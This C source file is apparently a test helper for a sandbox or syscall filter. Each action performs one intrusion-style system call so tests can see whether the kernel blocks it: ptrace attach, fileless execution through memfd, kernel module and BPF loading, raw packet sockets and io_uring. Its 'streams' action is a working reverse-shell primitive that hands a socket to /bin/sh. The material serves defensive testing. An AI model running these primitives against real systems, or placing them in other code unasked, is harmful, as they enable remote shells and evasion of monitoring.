/*
 * intruder: what the attack script cannot do with ordinary programs, one thing a call.
 *
 *     intruder ACTION [ARGUMENT]...
 *
 * The table at the end lists the actions. Each does the system call that the name says and cleans up
 * after itself; whether the kernel allows it is not its business: exit status 0 means "tried". Copies of
 * it under the names of servers stand in for them. Static, and without a C library's own notions where
 * those would choose another call than the one meant.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/if_ether.h>
#include <linux/io_uring.h>
#include <linux/openat2.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static struct sockaddr_in address(char **arg)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(arg[1])) };

	inet_pton(AF_INET, arg[0], &a.sin_addr);
	return a;
}

static void read_some(int fd)
{
	char b[64];

	if (fd >= 0 && read(fd, b, sizeof(b)) < 0)
		perror("read");
	if (fd >= 0)
		close(fd);
}

/* --- programs --- */

static void spawn(char **arg)
{
	pid_t pid = fork();

	if (pid == 0) {
		execvp(arg[0], arg);
		_exit(127);
	}
	waitpid(pid, NULL, 0);
}

static void spawn_as(char **arg)
{
	pid_t pid = fork();

	if (pid == 0) {
		if (setgid((gid_t)atoi(arg[0])) || setuid((uid_t)atoi(arg[0])))
			_exit(126);
		execvp(arg[1], arg + 1);
		_exit(127);
	}
	waitpid(pid, NULL, 0);
}

static int memory_copy(void)
{
	int fd = memfd_create("payload", MFD_CLOEXEC), self = open("/proc/self/exe", O_RDONLY);
	static char b[1 << 16];
	ssize_t n;

	while ((n = read(self, b, sizeof(b))) > 0)
		if (write(fd, b, (size_t)n) != n)
			break;
	close(self);
	return fd;
}

static void memory_exec(char **arg)
{
	char path[32];
	char *const argv[] = { "payload", "nothing", NULL }, *const env[] = { NULL };
	int fd = memory_copy();

	(void)arg;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	execve(path, argv, env);
}

static void memory_execat(char **arg)
{
	char *const argv[] = { "payload", "nothing", NULL }, *const env[] = { NULL };

	(void)arg;
	syscall(SYS_execveat, memory_copy(), "", argv, env, AT_EMPTY_PATH);
}

/* --- other processes --- */

static pid_t victim(void)
{
	pid_t pid = fork();

	if (pid == 0) {
		pause();
		_exit(0);
	}
	return pid;
}

static void attach(char **arg)
{
	pid_t pid = victim();

	(void)arg;
	if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) == 0) {
		waitpid(pid, NULL, 0);
		ptrace(PTRACE_DETACH, pid, NULL, NULL);
	}
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
}

static void seize(char **arg)
{
	pid_t pid = victim();

	(void)arg;
	ptrace(PTRACE_SEIZE, pid, NULL, NULL);
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
}

static void trace_me(char **arg)
{
	(void)arg;
	ptrace(PTRACE_TRACEME, 0, NULL, NULL);
}

static void namespace_enter(char **arg)
{
	int fd = open(arg[0], O_RDONLY | O_CLOEXEC);

	syscall(SYS_setns, fd, 0);
	close(fd);
}

static void become(char **arg)
{
	syscall(SYS_setuid, atoi(arg[0]));
}

/* --- network --- */

static void packet_socket(char **arg)
{
	(void)arg;
	close(socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL)));
}

static void connect_to(char **arg)
{
	struct sockaddr_in a = address(arg);
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	connect(fd, (struct sockaddr *)&a, sizeof(a));
	close(fd);
}

static void udp_connect(char **arg)
{
	struct sockaddr_in a = address(arg);
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	connect(fd, (struct sockaddr *)&a, sizeof(a));
	send(fd, "x", 1, 0);
	close(fd);
}

static void udp_send(char **arg)
{
	struct sockaddr_in a = address(arg);
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	sendto(fd, "x", 1, 0, (struct sockaddr *)&a, sizeof(a));
	close(fd);
}

/* What a shell sent out over a connection does: the socket becomes its standard streams. */
static void streams_to(char **arg)
{
	struct sockaddr_in a = address(arg);
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	if (connect(fd, (struct sockaddr *)&a, sizeof(a)) != 0)
		return;
	for (int i = 0; i < 3; i++)
		dup2(fd, i);
	execl("/bin/sh", "sh", "-c", "id", NULL);
}

/* --- the kernel --- */

static void module_load(char **arg)
{
	int fd = open(arg[0], O_RDONLY | O_CLOEXEC);

	syscall(SYS_finit_module, fd, "", 0);
	close(fd);
}

static void module_init(char **arg)
{
	static char image[64];

	(void)arg;
	syscall(SYS_init_module, image, sizeof(image), "");
}

static void bpf_load(char **arg)
{
	struct bpf_insn code[] = { { .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 0, .imm = 0 },
				   { .code = BPF_JMP | BPF_EXIT } };
	union bpf_attr attr = { .prog_type = BPF_PROG_TYPE_SOCKET_FILTER };
	long fd;

	(void)arg;
	attr.insns = (uint64_t)(uintptr_t)code;
	attr.insn_cnt = 2;
	attr.license = (uint64_t)(uintptr_t) "GPL";
	fd = syscall(SYS_bpf, BPF_PROG_LOAD, &attr, sizeof(attr));
	if (fd >= 0)
		close((int)fd);
}

static void fault_handler(char **arg)
{
	long fd = syscall(SYS_userfaultfd, O_CLOEXEC);

	(void)arg;
	if (fd >= 0)
		close((int)fd);
}

/* --- files, by the calls that tools no longer use --- */

static void read_open(char **arg)
{
	read_some((int)syscall(SYS_open, arg[0], O_RDONLY));
}

static void read_openat2(char **arg)
{
	struct open_how how = { .flags = O_RDONLY };

	read_some((int)syscall(SYS_openat2, AT_FDCWD, arg[0], &how, sizeof(how)));
}

/* Reads a file when somebody opens the pipe. */
static void read_when(char **arg)
{
	int fd = open(arg[0], O_RDONLY | O_CLOEXEC);

	read_some(open(arg[1], O_RDONLY));
	close(fd);
}

static void create_old(char **arg)
{
	close((int)syscall(SYS_creat, arg[0], 0600));
	syscall(SYS_unlink, arg[0]);
}

static void truncate_file(char **arg)
{
	close(open(arg[0], O_WRONLY | O_TRUNC));
}

static void link_old(char **arg)
{
	syscall(SYS_link, arg[0], arg[1]);
	syscall(SYS_unlink, arg[1]);
}

static void symlink_old(char **arg)
{
	syscall(SYS_symlink, arg[0], arg[1]);
	syscall(SYS_unlink, arg[1]);
}

static void unlink_old(char **arg)
{
	syscall(SYS_unlink, arg[0]);
}

static void rename_old(char **arg)
{
	syscall(SYS_rename, arg[0], arg[1]);
}

static void chmod_old(char **arg)
{
	syscall(SYS_chmod, arg[1], (mode_t)strtoul(arg[0], NULL, 8));
}

static void chmod_fd(char **arg)
{
	int fd = open(arg[1], O_RDONLY | O_CLOEXEC);

	syscall(SYS_fchmod, fd, (mode_t)strtoul(arg[0], NULL, 8));
	close(fd);
}

/* --- io_uring: one operation, submitted and waited for --- */

static void uring_one(const struct io_uring_sqe *op)
{
	struct io_uring_params p = { 0 };
	int fd = (int)syscall(SYS_io_uring_setup, 4, &p);
	size_t sq_bytes = p.sq_off.array + p.sq_entries * sizeof(unsigned);
	size_t cq_bytes = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
	char *sq, *cq;
	struct io_uring_sqe *sqes;
	unsigned tail, mask;

	if (fd < 0)
		return;
	sq = mmap(NULL, sq_bytes, PROT_READ | PROT_WRITE, MAP_SHARED, fd, IORING_OFF_SQ_RING);
	cq = mmap(NULL, cq_bytes, PROT_READ | PROT_WRITE, MAP_SHARED, fd, IORING_OFF_CQ_RING);
	sqes = mmap(NULL, p.sq_entries * sizeof(*sqes), PROT_READ | PROT_WRITE, MAP_SHARED, fd,
		    IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED)
		return;
	tail = *(unsigned *)(void *)(sq + p.sq_off.tail);
	mask = *(unsigned *)(void *)(sq + p.sq_off.ring_mask);
	sqes[tail & mask] = *op;
	((unsigned *)(void *)(sq + p.sq_off.array))[tail & mask] = tail & mask;
	__atomic_store_n((unsigned *)(void *)(sq + p.sq_off.tail), tail + 1, __ATOMIC_RELEASE);
	syscall(SYS_io_uring_enter, fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0);
	printf("%d\n", ((struct io_uring_cqe *)(void *)(cq + p.cq_off.cqes))->res);
	close(fd);
}

static void uring_open(char **arg)
{
	struct io_uring_sqe op = { .opcode = IORING_OP_OPENAT, .fd = AT_FDCWD };

	op.addr = (uint64_t)(uintptr_t)arg[0];
	op.open_flags = O_RDONLY;
	uring_one(&op);
}

static void uring_connect(char **arg)
{
	struct sockaddr_in a = address(arg);
	struct io_uring_sqe op = { .opcode = IORING_OP_CONNECT };

	op.fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	op.addr = (uint64_t)(uintptr_t)&a;
	op.off = sizeof(a);
	uring_one(&op);
	close(op.fd);
}

static void nothing(char **arg)
{
	(void)arg;
}

static const struct {
	const char *name;
	int arguments; /* at least */
	void (*run)(char **arg);
} actions[] = {
	{ "attach", 0, attach },
	{ "become", 1, become },
	{ "bpf-load", 0, bpf_load },
	{ "chmod", 2, chmod_old },
	{ "connect", 2, connect_to },
	{ "creat", 1, create_old },
	{ "fault-handler", 0, fault_handler },
	{ "fchmod", 2, chmod_fd },
	{ "link", 2, link_old },
	{ "memory-exec", 0, memory_exec },
	{ "memory-execat", 0, memory_execat },
	{ "module-init", 0, module_init },
	{ "module-load", 1, module_load },
	{ "namespace", 1, namespace_enter },
	{ "nothing", 0, nothing },
	{ "open", 1, read_open },
	{ "openat2", 1, read_openat2 },
	{ "packet", 0, packet_socket },
	{ "rename", 2, rename_old },
	{ "seize", 0, seize },
	{ "spawn", 1, spawn },
	{ "spawn-as", 2, spawn_as },
	{ "streams", 2, streams_to },
	{ "symlink", 2, symlink_old },
	{ "trace-me", 0, trace_me },
	{ "truncate", 1, truncate_file },
	{ "udp", 2, udp_connect },
	{ "udp-send", 2, udp_send },
	{ "unlink", 1, unlink_old },
	{ "uring-connect", 2, uring_connect },
	{ "uring-open", 1, uring_open },
	{ "when", 2, read_when },
};

int main(int argc, char **argv)
{
	for (size_t i = 0; argc > 1 && i < sizeof(actions) / sizeof(*actions); i++) {
		if (strcmp(argv[1], actions[i].name) != 0 || argc - 2 < actions[i].arguments)
			continue;
		actions[i].run(argv + 2);
		return 0;
	}
	fprintf(stderr, "intruder: no such action, or too few arguments\n");
	return 2;
}
